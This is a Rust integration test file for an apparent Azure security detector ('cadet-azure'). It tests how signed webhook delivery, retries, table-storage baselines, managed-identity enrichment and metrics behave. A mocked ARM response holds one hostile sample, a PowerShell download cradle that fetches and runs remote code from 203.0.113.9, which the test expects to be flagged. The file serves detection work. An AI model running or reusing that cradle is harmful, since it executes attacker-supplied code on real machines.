//! Over real TCP sockets on loopback: the router served by axum, and the real `cadet-azure`
//! binary configured through its environment, delivering signed findings to a local receiver,
//! and keeping its baseline in Azurite.

mod common;

use std::io::{BufRead, BufReader, Write};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::IntoResponse;
use axum::routing::post;
use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine as _;
use common::*;
use hmac::{Hmac, Mac};
use serde_json::{json, Value};
use sha2::Sha256;

const SECRET: &str = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
const AOBO: &str = "vm-runcommand-aobo-partner.json";

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .timeout(Duration::from_secs(30))
        .build()
        .unwrap_or_else(|e| panic!("{e}"))
}

async fn post_json(url: &str, headers: &[(&str, &str)], body: &Value) -> (u16, Value) {
    let mut req = client()
        .post(url)
        .header("content-type", "application/json");
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let resp = req
        .body(body.to_string())
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let status = resp.status().as_u16();
    let text = resp.text().await.unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[tokio::test]
async fn router_over_tcp_both_encodings_key_in_query_and_chunked_oversize() {
    let sink = Arc::new(RecordingSink::default());
    let addr = serve_router(app(sink.clone())).await;
    let base = format!("http://{addr}");
    for (i, as_string) in [(1, false), (2, true)] {
        let event = with_id(
            sample(AOBO),
            &format!("33333333-0000-4000-8000-00000000000{i}"),
        );
        let (status, body) = post_json(
            &format!("{base}/detect"),
            &[],
            &host_payload(&event, as_string),
        )
        .await;
        assert_eq!(status, 200, "{body}");
        assert_eq!(body["ReturnValue"]["findings"][0]["severity"], "critical");
    }
    let event = with_id(
        sample("vm-runcommand-aadinternals.json"),
        "33333333-0000-4000-8000-000000000003",
    );
    let (status, body) = post_json(
        &format!("{base}/eventgrid?code={}", KEY),
        &[("aeg-event-type", "Notification")],
        &json!([event]),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(sink.ids().len(), 3);

    // A chunked upload (no Content-Length) over 1 MiB, written by hand.
    let status = tokio::task::spawn_blocking(move || {
        let mut s = std::net::TcpStream::connect(addr).unwrap_or_else(|e| panic!("{e}"));
        s.set_read_timeout(Some(Duration::from_secs(10))).ok();
        let head = format!(
            "POST /eventgrid HTTP/1.1\r\nHost: {addr}\r\nx-cadet-key: {KEY}\r\n\
             content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
        );
        s.write_all(head.as_bytes())
            .unwrap_or_else(|e| panic!("{e}"));
        let chunk = vec![b' '; 64 * 1024];
        for _ in 0..20 {
            let framed = [format!("{:x}\r\n", chunk.len()).as_bytes(), &chunk, b"\r\n"].concat();
            if s.write_all(&framed).is_err() {
                break; // the server may answer and close early
            }
        }
        let _ = s.write_all(b"0\r\n\r\n");
        let mut line = String::new();
        let _ = BufReader::new(&mut s).read_line(&mut line);
        line
    })
    .await
    .unwrap_or_else(|e| panic!("{e}"));
    assert!(status.starts_with("HTTP/1.1 413"), "{status:?}");
}

// ---------------------------------------------------------------------------------------------
// The real binary.

#[derive(Default)]
struct Receiver {
    /// Statuses to answer, in order; afterwards 200.
    script: Mutex<Vec<u16>>,
    /// (verified, finding JSON) per request.
    seen: Mutex<Vec<(bool, Value)>>,
}

fn verify(headers: &HeaderMap, body: &[u8]) -> bool {
    let h = |n: &str| {
        headers
            .get(n)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
    };
    let key = B64
        .decode(SECRET.trim_start_matches("whsec_"))
        .unwrap_or_default();
    let Ok(mut mac) = Hmac::<Sha256>::new_from_slice(&key) else {
        return false;
    };
    mac.update(format!("{}.{}.", h("webhook-id"), h("webhook-timestamp")).as_bytes());
    mac.update(body);
    let expected = format!("v1,{}", B64.encode(mac.finalize().into_bytes()));
    h("webhook-signature").split(' ').any(|s| s == expected)
}

async fn receive(
    State(r): State<Arc<Receiver>>,
    headers: HeaderMap,
    body: Bytes,
) -> impl IntoResponse {
    let finding: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    r.seen
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push((verify(&headers, &body), finding));
    let mut script = r.script.lock().unwrap_or_else(|p| p.into_inner());
    let status = if script.is_empty() {
        200
    } else {
        script.remove(0)
    };
    StatusCode::from_u16(status).unwrap_or(StatusCode::OK)
}

async fn start_receiver(r: Arc<Receiver>) -> String {
    let addr = serve_router(
        axum::Router::new()
            .route("/hook", post(receive))
            .with_state(r),
    )
    .await;
    format!("http://{addr}/hook")
}

#[tokio::test]
async fn binary_delivers_a_signed_finding_retrying_a_500_and_fails_when_retries_run_out() {
    let receiver = Arc::new(Receiver::default());
    receiver
        .script
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push(500);
    let url = start_receiver(receiver.clone()).await;
    let handler = start_handler(&[
        ("CADET_STATE", "memory"),
        ("CADET_SINKS", "webhook,stdout"),
        ("CADET_WEBHOOK_URL", &url),
        ("CADET_WEBHOOK_SECRET", SECRET),
        ("CADET_AUTH_KEY", KEY),
    ]);
    let (status, body) = post_json(
        &format!("{}/detect", handler.base),
        &[("x-azure-functions-invocationid", "e2e-1")],
        &host_payload(&sample(AOBO), true),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    {
        let seen = receiver.seen.lock().unwrap_or_else(|p| p.into_inner());
        assert_eq!(seen.len(), 2, "a 500, then the retry");
        assert!(
            seen.iter().all(|(ok, _)| *ok),
            "every attempt is signed correctly"
        );
        let finding = &seen[1].1;
        assert_eq!(finding["severity"], "critical");
        assert_eq!(
            finding["principal"]["tenant"],
            "99999999-8888-7777-6666-555555555555"
        );
        assert!(finding["summary"].as_str().is_some_and(|s| !s.is_empty()));
    }

    // The receiver is down for good: the invocation fails (the host will retry).
    receiver
        .script
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .extend([503; 10]);
    let event = with_id(
        sample("vm-runcommand-aadinternals.json"),
        "44444444-0000-4000-8000-000000000001",
    );
    let (status, body) = post_json(
        &format!("{}/detect", handler.base),
        &[],
        &host_payload(&event, false),
    )
    .await;
    assert_eq!(status, 500, "{body}");
    assert!(
        body["Logs"]
            .to_string()
            .contains("gave up after 4 attempts"),
        "{body}"
    );
    // Direct Event Grid mode on the same binary.
    let (status, _) = post_json(&format!("{}/eventgrid", handler.base), &[], &json!([])).await;
    assert_eq!(status, 401);
}

#[tokio::test]
async fn binary_refuses_an_unresolved_key_vault_reference() {
    let out = command(&[
        ("CADET_SINKS", "webhook"),
        ("CADET_WEBHOOK_URL", "https://hooks.example.com/cadet"),
        (
            "CADET_WEBHOOK_SECRET",
            "@Microsoft.KeyVault(SecretUri=https://kv-cadet.vault.azure.net/secrets/cadet-webhook-secret/)",
        ),
    ])
    .stdout(Stdio::null())
    .stderr(Stdio::piped())
    .spawn()
    .and_then(|c| c.wait_with_output())
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("CADET_WEBHOOK_SECRET") && stderr.contains("Key Vault"),
        "{stderr}"
    );
    assert!(!stderr.contains("kv-cadet.vault.azure.net"), "{stderr}");
}

#[tokio::test]
async fn binary_keeps_its_baseline_in_azure_table_storage() {
    let azurite = common::azurite::start();
    let cs = azurite.connection_string();
    let handler = start_handler(&[
        ("CADET_STATE", "azure-table:cadetbaseline"),
        ("CADET_TABLE_CONNECTION_STRING", &cs),
        ("CADET_SINKS", "stdout"),
    ]);
    let payload = host_payload(&sample(AOBO), false);
    let (status, body) = post_json(&format!("{}/detect", handler.base), &[], &payload).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["ReturnValue"]["outcomes"][0]["status"], "alerted");
    // Redelivery: the stored profile remembers the event id.
    let (status, body) = post_json(&format!("{}/detect", handler.base), &[], &payload).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["ReturnValue"]["outcomes"][0]["status"], "duplicate");
    let mut health = String::new();
    let _ = reqwest::get(format!("{}/healthz", handler.base))
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .text()
        .await
        .map(|t| health = t);
    assert!(health.contains("azure-table"), "{health}");
    drop(handler);
    drop(azurite);
}

#[tokio::test]
async fn an_undelivered_finding_is_published_by_another_instance_on_redelivery() {
    // Instance A records the event in the table baseline but cannot deliver the finding; the
    // host redelivers to instance B, for which the event is a baseline duplicate: the table
    // outbox is what makes B publish it.
    let azurite = common::azurite::start();
    let cs = azurite.connection_string();
    let receiver = Arc::new(Receiver::default());
    receiver
        .script
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .extend([503; 4]);
    let url = start_receiver(receiver.clone()).await;
    let env = [
        ("CADET_STATE", "azure-table:cadetoutbox"),
        ("CADET_TABLE_CONNECTION_STRING", cs.as_str()),
        ("CADET_SINKS", "webhook"),
        ("CADET_WEBHOOK_URL", url.as_str()),
        ("CADET_WEBHOOK_SECRET", SECRET),
    ];
    let payload = host_payload(&sample(AOBO), false);
    let a = start_handler(&env);
    let (status, body) = post_json(&format!("{}/detect", a.base), &[], &payload).await;
    assert_eq!(status, 500, "{body}");
    drop(a);
    let b = start_handler(&env);
    let (status, body) = post_json(&format!("{}/detect", b.base), &[], &payload).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        body["ReturnValue"]["outcomes"][0]["status"], "alerted",
        "{body}"
    );
    let seen = receiver
        .seen
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .clone();
    assert_eq!(seen.len(), 5, "4 failed attempts, then the redelivery");
    assert!(seen[4].0, "signed");
    assert_eq!(seen[4].1["severity"], "critical");
    // Delivered: the outbox entry is gone, so a third delivery is a plain duplicate.
    let (status, body) = post_json(&format!("{}/detect", b.base), &[], &payload).await;
    assert_eq!(status, 200);
    assert_eq!(
        body["ReturnValue"]["outcomes"][0]["status"], "duplicate",
        "{body}"
    );
}

/// The App Service identity endpoint and ARM, both on loopback: what each was asked.
#[derive(Default)]
struct Cloud {
    token_requests: Mutex<Vec<String>>,
    arm_requests: Mutex<Vec<String>>,
}

async fn identity(
    State(c): State<Arc<Cloud>>,
    uri: axum::http::Uri,
    headers: HeaderMap,
) -> axum::response::Response {
    let secret = headers
        .get("x-identity-header")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("");
    c.token_requests
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push(format!(
            "{}?{} {secret}",
            uri.path(),
            uri.query().unwrap_or("")
        ));
    if secret != "identity-secret" {
        return (StatusCode::UNAUTHORIZED, "bad identity header").into_response();
    }
    let expires = jiff_free_now() + 3600;
    axum::Json(json!({
        "access_token": "arm-token-1",
        "expires_on": expires.to_string(),
        "resource": "https://management.azure.com",
        "token_type": "Bearer",
        "client_id": "00000000-0000-0000-0000-000000000000"
    }))
    .into_response()
}

fn jiff_free_now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

async fn arm_api(
    State(c): State<Arc<Cloud>>,
    uri: axum::http::Uri,
    headers: HeaderMap,
) -> axum::response::Response {
    let auth = headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    c.arm_requests
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .push(format!("{} {auth}", uri.path()));
    if auth != "Bearer arm-token-1" {
        return (StatusCode::UNAUTHORIZED, "{}").into_response();
    }
    if uri.path().ends_with("/runCommands/rc-hotfix") {
        return (
            StatusCode::OK,
            r#"{"properties":{"source":{"script":"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"}}}"#,
        )
            .into_response();
    }
    (StatusCode::NOT_FOUND, "{}").into_response()
}

#[tokio::test]
async fn binary_reads_the_managed_run_command_script_with_its_managed_identity() {
    let cloud = Arc::new(Cloud::default());
    let id_addr = serve_router(
        axum::Router::new()
            .route("/msi/token", axum::routing::get(identity))
            .with_state(cloud.clone()),
    )
    .await;
    let arm_addr = serve_router(
        axum::Router::new()
            .fallback(arm_api)
            .with_state(cloud.clone()),
    )
    .await;
    let receiver = Arc::new(Receiver::default());
    let url = start_receiver(receiver.clone()).await;
    let identity_endpoint = format!("http://{id_addr}/msi/token");
    let arm_endpoint = format!("http://{arm_addr}");
    let handler = start_handler(&[
        ("CADET_STATE", "memory"),
        ("CADET_SINKS", "webhook"),
        ("CADET_WEBHOOK_URL", &url),
        ("CADET_WEBHOOK_SECRET", SECRET),
        ("CADET_ENRICH_ARM", "true"),
        ("CADET_ARM_ENDPOINT", &arm_endpoint),
        ("IDENTITY_ENDPOINT", &identity_endpoint),
        ("IDENTITY_HEADER", "identity-secret"),
    ]);
    let write = sample("vm-managed-runcommand-write.json");
    for (i, event) in [
        with_id(write.clone(), "55555555-0000-4000-8000-000000000001"),
        with_id(write, "55555555-0000-4000-8000-000000000002"),
    ]
    .iter()
    .enumerate()
    {
        let (status, body) = post_json(
            &format!("{}/detect", handler.base),
            &[("x-azure-functions-invocationid", &format!("arm-{i}"))],
            &host_payload(event, true),
        )
        .await;
        assert_eq!(status, 200, "{body}");
    }
    let seen = receiver.seen.lock().unwrap_or_else(|p| p.into_inner());
    assert!(!seen.is_empty(), "the enriched run command alerts");
    let finding = &seen[0].1;
    let text = finding["command_text"].as_str().unwrap_or("");
    assert!(text.contains("DownloadString"), "{finding}");
    let signals: Vec<&str> = finding["signals"]
        .as_array()
        .map(|a| a.iter().filter_map(|s| s["id"].as_str()).collect())
        .unwrap_or_default();
    assert!(signals.contains(&"download_cradle"), "{signals:?}");
    let tokens = cloud
        .token_requests
        .lock()
        .unwrap_or_else(|p| p.into_inner());
    assert_eq!(
        tokens.len(),
        1,
        "the token is cached between invocations: {tokens:?}"
    );
    assert!(tokens[0].contains("api-version=2019-08-01"), "{tokens:?}");
    assert!(tokens[0].contains("resource=https"), "{tokens:?}");
    let arm = cloud.arm_requests.lock().unwrap_or_else(|p| p.into_inner());
    assert_eq!(arm.len(), 2, "{arm:?}");
    assert!(
        arm.iter().all(|r| r.ends_with("Bearer arm-token-1")),
        "{arm:?}"
    );
}

#[tokio::test]
async fn binary_prints_one_valid_emf_metrics_line_per_batch() {
    let stdout = Arc::new(Mutex::new(Vec::new()));
    let handler = start_handler_with(
        &[
            ("CADET_STATE", "memory"),
            ("CADET_SINKS", "stdout"),
            ("WEBSITE_SITE_NAME", "cadet-func-test"),
        ],
        Some(stdout.clone()),
    );
    let payload = host_payload(&sample(AOBO), false);
    for _ in 0..2 {
        let (status, body) = post_json(&format!("{}/detect", handler.base), &[], &payload).await;
        assert_eq!(status, 200, "{body}");
    }
    // The lines are printed before each response; give the reader thread a moment.
    let mut emf: Vec<Value> = Vec::new();
    for _ in 0..50 {
        emf = stdout
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .iter()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|v| v.get("_aws").is_some())
            .collect();
        if emf.len() >= 2 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    drop(handler);
    assert_eq!(emf.len(), 2, "{emf:?}");
    assert_eq!(emf[0]["Function"], "cadet-func-test");
    assert_eq!(
        (&emf[0]["EventsIn"], &emf[0]["Alerts"]),
        (&json!(1), &json!(1))
    );
    // The redelivery is a duplicate: counted, not alerted again.
    assert_eq!(
        (&emf[1]["Duplicates"], &emf[1]["Alerts"]),
        (&json!(1), &json!(0))
    );
    let lines: String = emf.iter().map(|v| format!("{v}\n")).collect();
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
    let mut child = Command::new(root.join(".venv/bin/python"))
        .arg(root.join("scripts/emf-validate.py"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("the EMF validator (make venv installs jsonschema): {e}"));
    child
        .stdin
        .take()
        .unwrap_or_else(|| panic!("stdin"))
        .write_all(lines.as_bytes())
        .unwrap_or_else(|e| panic!("{e}"));
    let out = child.wait_with_output().unwrap_or_else(|e| panic!("{e}"));
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success() && report.contains("emf: 2/2 valid"),
        "{report}"
    );
}
